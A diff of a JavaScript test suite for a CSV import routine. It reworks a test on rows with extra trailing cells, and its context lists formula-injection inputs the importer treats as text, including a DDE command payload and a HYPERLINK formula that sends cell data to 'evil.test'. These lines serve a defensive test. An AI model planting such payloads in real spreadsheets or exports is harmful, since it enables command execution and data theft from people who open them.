@@ -119,14 +119,18 @@ describe('a file is taken', () => {
     ]);
   });
 
-  it('with a line that goes on behind the last column: its row fails, unless nothing stands there', async () => {
-    const { rows } = await csv.work(`${GOOD}${LINE},late\n${LINE},, \n`);
-    expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
-      [null, ROW],
-      ['The row has 7 cells, but the header names 6 columns. A cell that holds a comma must be quoted.', ROW],
-      [null, ROW],
-    ]);
-  });
+  it.each([',late', ',', ',,'])(
+    'with a line that goes on behind the last column, even if nothing stands there: its row fails',
+    async more => {
+      const { rows } = await csv.work(`${GOOD}${LINE}${more}\n${LINE}\n`);
+      const cells = 6 + more.split(',').length - 1;
+      expect(rows.map(({ error, rawRow }) => [error, rawRow])).toEqual([
+        [null, ROW],
+        [`The row has ${cells} cells, but the header names 6 columns. A cell that holds a comma must be quoted.`, ROW],
+        [null, ROW],
+      ]);
+    },
+  );
 
   it.each(["=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.test?x="&A1)', '+1+1', '-1', '@SUM(1)', '\t=1'])(
     'with the formula %j, which is text',
